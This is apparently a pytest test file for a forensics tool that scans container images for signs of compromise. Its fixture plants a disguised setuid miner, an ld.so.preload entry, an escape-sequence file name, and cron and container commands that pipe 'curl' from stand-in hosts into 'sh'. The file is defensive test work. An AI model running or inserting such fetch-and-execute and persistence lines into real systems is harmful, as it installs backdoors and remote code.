"""The door of the room: every detector runs once, findings come in the report's order, each once."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from forensics.detectors import MOST_OF_A_RULE, Detector, Needs, detect, detectors
from forensics.model.findings import finding_id, report_order
from tests.scenes import File, build, config, debian, elf, findings

DOCUMENTATION = Path(__file__).parents[3] / "docs" / "detectors.md"

HOSTILE = [
    debian(),
    {
        "/usr/lib/.x/kworker": File(elf(b"miner"), 0o4755),
        "/etc/cron.d/x": b"* * * * * root curl http://192.0.2.9/x | sh\n",
        "/etc/ld.so.preload": b"/usr/lib/.x/y.so\n",
        "/srv/a\x1b[2Jb": b"",
    },
    {"/usr/lib/.x": None},
]
CONFIG = config(cmd=("sh", "-c", "curl http://a.invalid | sh"), env=("API_TOKEN=q7Rk2vZp9LmX4tWc",))


def test_findings_come_in_order_and_each_once() -> None:
    scene = build(HOSTILE, config=CONFIG)
    for needs in Needs:
        found = detect(scene, needs)
        assert found
        assert list(found) == sorted(found, key=report_order)
        assert len({one.id for one in found}) == len(found)


def test_two_runs_are_identical() -> None:
    assert findings(build(HOSTILE, config=CONFIG)) == findings(build(HOSTILE, config=CONFIG))


def test_findings_are_complete_and_printable() -> None:
    for found in findings(build(HOSTILE, config=CONFIG)):
        assert re.fullmatch(r"[0-9a-f]{16}", found.id)
        assert found.title
        assert found.explanation
        assert found.remediation
        assert found.evidence
        texts = [
            found.title,
            found.explanation,
            found.instruction,
            found.path or "",
            *(one.text for one in found.evidence),
        ]
        assert all(text.isprintable() for text in texts)


def test_a_finding_says_which_step_made_its_layer() -> None:
    scene = build(HOSTILE, created_by=("ADD rootfs", "RUN evil\x1b", "RUN rm"))
    (found,) = [one for one in findings(scene) if one.rule_id == "names/kernel-thread"]
    assert found.instruction == "RUN evil\\x1b"
    assert found.id == finding_id("names/kernel-thread", 1, "/usr/lib/.x/kworker", f"{found.sha256} ")


@pytest.mark.parametrize("detector", detectors(), ids=lambda detector: detector.id)
def test_every_detector_is_complete(detector: Detector) -> None:
    assert detector.__doc__
    assert detector.needs in Needs
    for statement in detector.statements:
        assert re.fullmatch(r"[a-z]+(?:-[a-z]+)*/[a-z]+(?:-[a-z]+)*", statement.rule_id)
        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique) for technique in statement.attack)
        for text in (statement.title, statement.explanation, statement.alternatives, statement.remediation):
            assert text
        assert not statement.title.endswith(".")
        assert statement.explanation.endswith(".")


def test_rule_ids_are_unique() -> None:
    ids = [statement.rule_id for detector in detectors() for statement in detector.statements]
    assert len(ids) == len(set(ids))


def test_every_detector_and_rule_is_documented() -> None:
    text = DOCUMENTATION.read_text(encoding="utf-8")
    for detector in detectors():
        assert f"### {detector.id}\n" in text
        for statement in detector.statements:
            row = f"| `{statement.rule_id}` | {statement.severity} | {statement.confidence} |"
            assert row in text, row


def test_a_flood_of_one_rule_is_cut_and_counted() -> None:
    scene = build([debian(), {f"/opt/{n}": File(b"x", 0o4755) for n in range(MOST_OF_A_RULE + 30)}])
    found = [one for one in detect(scene, Needs.EVERYTHING) if one.rule_id == "privilege/setuid-unexpected"]
    assert len(found) == MOST_OF_A_RULE + 1
    (rest,) = [one for one in found if one.path is None]
    assert rest.title.endswith(": 30 more")
